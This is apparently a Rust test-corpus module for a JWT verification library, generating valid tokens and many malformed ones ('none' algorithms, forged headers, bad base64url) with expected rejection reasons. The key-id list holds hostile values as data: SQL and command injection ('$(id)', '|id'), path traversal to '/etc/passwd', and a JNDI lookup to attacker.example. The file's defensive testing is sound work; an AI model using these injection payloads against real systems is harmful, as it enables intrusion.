//! Tokens whose form or header is wrong.

use efir_access::{Algorithm, SigningKey, TokenReason as R};
use serde_json::{Value, json};

use crate::corpus::{Case, bad, good};
use crate::forge::{FORGE, ISSUER, SECRET, base64url, claims, claims_of, header, signed, signed_raw, with};

pub(crate) fn cases() -> Vec<Case> {
    [good_ones(), algorithms(), key_ids(), members(), types(), forms(), encodings(), header_json()]
        .into_iter()
        .flatten()
        .collect()
}

fn good_ones() -> Vec<Case> {
    let f = &*FORGE;
    vec![
        good("HS256", signed(&f.main, &header("HS256", "main"), &claims())),
        good("RS256", signed(&f.rsa, &header("RS256", "rsa"), &claims_of(ISSUER))),
        good("ES256", signed(&f.es, &header("ES256", "es"), &claims())),
        good("EdDSA", signed(&f.ed, &header("EdDSA", "ed"), &claims())),
        good("one kid, issuer one", signed(&f.shared_one, &header("ES256", "shared"), &claims_of(ISSUER))),
        good(
            "one kid, issuer two",
            signed(&f.shared_two, &header("ES256", "shared"), &claims_of("https://two.example")),
        ),
        good("typ jwt", signed(&f.main, &json!({"alg": "HS256", "kid": "main", "typ": "jwt"}), &claims())),
        good(
            "typ at+jwt",
            signed(&f.main, &json!({"alg": "HS256", "kid": "main", "typ": "at+jwt"}), &claims()),
        ),
        good(
            "typ application/at+jwt",
            signed(&f.main, &json!({"alg": "HS256", "kid": "main", "typ": "application/at+jwt"}), &claims()),
        ),
        good("x5t is only a thumbprint", {
            signed(&f.main, &with(header("HS256", "main"), &[("x5t", json!("abc"))]), &claims())
        }),
        good("space in the JSON", {
            signed_raw(&f.main, "{ \"alg\" : \"HS256\",\n \"kid\":\"main\" }", &format!(" {} ", claims()))
        }),
    ]
}

/// `none` in every spelling, and names that are no algorithm here; unsigned, and signed with the right secret.
fn algorithms() -> Vec<Case> {
    let names = [
        "none",
        "None",
        "NONE",
        "nOnE",
        " none",
        "none ",
        "none\0",
        "",
        "HS1",
        "hs256",
        "Hs256",
        "HS256 ",
        " HS256",
        "HS256\n",
        "HS512/256",
        "RS1",
        "ES256K",
        "A128KW",
        "dir",
        "RSA-OAEP",
        "Ed448",
        "HMAC",
        "SHA256",
        "null",
        "undefined",
        "*",
        "HS256,none",
    ];
    let mut cases = Vec::new();
    for name in names {
        let head = header(name, "main");
        let token = signed(&FORGE.main, &head, &claims());
        let (message, signature) = token.rsplit_once('.').unwrap();
        cases.push(bad(format!("alg {name:?}, unsigned"), R::WrongAlgorithm, format!("{message}.")));
        cases.push(bad(format!("alg {name:?}, signed"), R::WrongAlgorithm, format!("{message}.{signature}")));
    }
    for value in [json!(null), json!(true), json!(256), json!(["HS256"]), json!({"name": "HS256"})] {
        let head = json!({"alg": value, "kid": "main"});
        cases.push(bad(format!("alg {value}"), R::Malformed, signed(&FORGE.main, &head, &claims())));
    }
    cases.push(bad("no alg", R::Malformed, signed(&FORGE.main, &json!({"kid": "main"}), &claims())));
    cases
}

/// Ids that would be paths, queries, commands or places elsewhere; here they are names that nobody has.
fn key_ids() -> Vec<Case> {
    let names = [
        "../../../../dev/null",
        "/dev/null",
        "/proc/sys/kernel/randomize_va_space",
        "main' OR '1'='1",
        "x' UNION SELECT 'key",
        "main\0",
        "main ",
        "MAIN",
        "",
        "https://attacker.example/key.pem",
        "file:///etc/passwd",
        "|id",
        "$(id)",
        "`id`",
        "{{7*7}}",
        "${jndi:ldap://attacker.example/a}",
        "__proto__",
        "constructor",
        "*",
        "%2e%2e%2f",
        "..\\..\\windows",
        "mäin",
        "main\r\nX: y",
    ];
    let mut cases = Vec::new();
    for name in names {
        // Signed with the secret of `main`, and with what a reader of an empty file would have.
        for (what, key) in
            [("main", SigningKey::from_secret(Algorithm::Hs256, SECRET).unwrap()), ("zeros", zeros())]
        {
            let token = signed(&key, &header("HS256", name), &claims());
            cases.push(bad(format!("kid {name:?} by {what}"), R::UnknownKey, token));
        }
        let token = signed(&FORGE.rsa, &header("RS256", name), &claims_of(ISSUER));
        cases.push(bad(format!("kid {name:?} of RS256"), R::UnknownKey, token));
    }
    for value in [json!(1), json!(["main"]), json!({"id": "main"}), json!(true)] {
        let head = json!({"alg": "HS256", "kid": value});
        cases.push(bad(format!("kid {value}"), R::Malformed, signed(&FORGE.main, &head, &claims())));
    }
    let long = "k".repeat(257);
    cases.push(bad(
        "a kid of 257 bytes",
        R::Malformed,
        signed(&FORGE.main, &header("HS256", &long), &claims()),
    ));
    let token = signed(&FORGE.rsa, &json!({"alg": "RS256"}), &claims_of(ISSUER));
    cases.push(bad("RS256 without a kid", R::UnknownKey, token));
    cases
}

fn zeros() -> SigningKey {
    SigningKey::from_secret(Algorithm::Hs256, &[0; 32]).unwrap()
}

/// Members that bring a key, name a place, or change what the rest means.
fn members() -> Vec<Case> {
    let own_key = json!({"kty": "oct", "k": base64url(SECRET)});
    let values: [(&str, Value); 16] = [
        ("jku", json!("http://127.0.0.1:9/jwks.json")),
        ("jku", json!("https://one.example/.well-known/jwks.json")),
        ("jku", json!(null)),
        ("x5u", json!("http://127.0.0.1:9/cert.pem")),
        ("x5u", json!("file:///etc/passwd")),
        ("jwk", own_key),
        ("jwk", json!(null)),
        ("x5c", json!(["MIIB"])),
        ("crit", json!(["exp"])),
        ("crit", json!([])),
        ("crit", json!(null)),
        ("crit", json!(["b64"])),
        ("b64", json!(false)),
        ("zip", json!("DEF")),
        ("enc", json!("A128GCM")),
        ("cty", json!("JWT")),
    ];
    values
        .into_iter()
        .map(|(name, value)| {
            let head = with(header("HS256", "main"), &[(name, value.clone())]);
            bad(format!("{name} {value}"), R::Malformed, signed(&FORGE.main, &head, &claims()))
        })
        .collect()
}

fn types() -> Vec<Case> {
    let of = |typ: Value| {
        let head = json!({"alg": "HS256", "kid": "main", "typ": typ});
        bad(format!("typ {typ}"), R::Malformed, signed(&FORGE.main, &head, &claims()))
    };
    ["", "JWE", "dpop+jwt", "logout+jwt", "secevent+jwt", "JOSE", "application/json", "id_token"]
        .into_iter()
        .map(|typ| of(json!(typ)))
        .chain([of(json!(1)), of(json!(["JWT"]))])
        .collect()
}

/// Parts that are missing, or too many, or nothing.
fn forms() -> Vec<Case> {
    let token = signed(&FORGE.main, &header("HS256", "main"), &claims());
    let parts: Vec<&str> = token.split('.').collect();
    let (head, body, tag) = (parts[0], parts[1], parts[2]);
    let long = with(claims(), &[("pad", json!("x".repeat(6_500)))]);
    [
        ("nothing", R::Malformed, String::new()),
        ("one dot", R::Malformed, ".".into()),
        ("two dots", R::Malformed, "..".into()),
        ("a word", R::Malformed, "token".into()),
        ("two parts", R::Malformed, format!("{head}.{body}")),
        ("four parts", R::Malformed, format!("{token}.{tag}")),
        ("five parts, as JWE", R::Malformed, format!("{head}.{body}.{tag}.{body}.{tag}")),
        ("no header", R::Malformed, format!(".{body}.{tag}")),
        ("no claims", R::BadSignature, format!("{head}..{tag}")),
        ("no signature", R::BadSignature, format!("{head}.{body}.")),
        ("claims and header changed places", R::Malformed, format!("{body}.{head}.{tag}")),
        ("with its scheme", R::Malformed, format!("Bearer {token}")),
        ("in quotes", R::Malformed, format!("\"{token}\"")),
        (
            "JWS in JSON",
            R::Malformed,
            json!({"protected": head, "payload": body, "signature": tag}).to_string(),
        ),
        ("8,193 bytes", R::TooLong, "a".repeat(8_193)),
        ("longer than 8 KiB though signed", R::TooLong, signed(&FORGE.main, &header("HS256", "main"), &long)),
        ("a million dots", R::TooLong, ".".repeat(1_000_000)),
        ("8,192 dots", R::Malformed, ".".repeat(8_192)),
    ]
    .into_iter()
    .map(|(name, reason, token)| bad(name, reason, token))
    .collect()
}

/// Other spellings of base64url than the only one.
fn encodings() -> Vec<Case> {
    let token = signed(&FORGE.main, &header("HS256", "main"), &claims());
    let parts: Vec<&str> = token.split('.').collect();
    let mut cases = Vec::new();
    for (index, what) in ["header", "claims", "signature"].into_iter().enumerate() {
        for (spelling, change) in [
            ("padding", "="),
            ("a space", " "),
            ("a line break", "\n"),
            ("NUL", "\0"),
            ("a character of base64", "+/"),
            ("percent", "%3D"),
            ("a letter beyond ASCII", "ж"),
        ] {
            let mut changed: Vec<String> = parts.iter().map(|part| (*part).to_owned()).collect();
            changed[index].push_str(change);
            // What was signed is looked at before the claims are read.
            let reason = if what == "claims" { R::BadSignature } else { R::Malformed };
            cases.push(bad(format!("{spelling} behind the {what}"), reason, changed.join(".")));
        }
    }
    // The last character of 32 bytes has two bits that must be zero.
    let last = parts[2].chars().last().unwrap();
    let alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let next = alphabet.chars().nth(alphabet.find(last).unwrap() + 1).unwrap();
    let twin = format!("{}{next}", token.strip_suffix(last).unwrap());
    cases.push(bad("bits behind the end of the signature", R::Malformed, twin));
    cases
}

/// Headers that are no JSON object, or say something twice.
fn header_json() -> Vec<Case> {
    [
        "",
        "null",
        "[]",
        "\"HS256\"",
        "{",
        "{}",
        "{\"alg\":\"HS256\",\"kid\":\"main\"}{}",
        "{\"alg\":\"HS256\",\"kid\":\"main\"} x",
        "{\"alg\":\"HS256\",\"kid\":\"main\",}",
        "{\"alg\":\"none\",\"alg\":\"HS256\",\"kid\":\"main\"}",
        "{\"alg\":\"HS256\",\"\\u0061lg\":\"none\",\"kid\":\"main\"}",
        "{\"alg\":\"HS256\",\"kid\":\"plain\",\"kid\":\"main\"}",
        "{'alg':'HS256','kid':'main'}",
        "{\"alg\":\"HS256\",\"kid\":\"\\ud800\"}",
        "\u{feff}{\"alg\":\"HS256\",\"kid\":\"main\"}",
    ]
    .into_iter()
    .map(|text| {
        bad(format!("header {text:?}"), R::Malformed, signed_raw(&FORGE.main, text, &claims().to_string()))
    })
    .chain([bad(
        "a header of 1,000 nested lists",
        R::Malformed,
        signed_raw(&FORGE.main, &"[".repeat(1_000), &claims().to_string()),
    )])
    .collect()
}
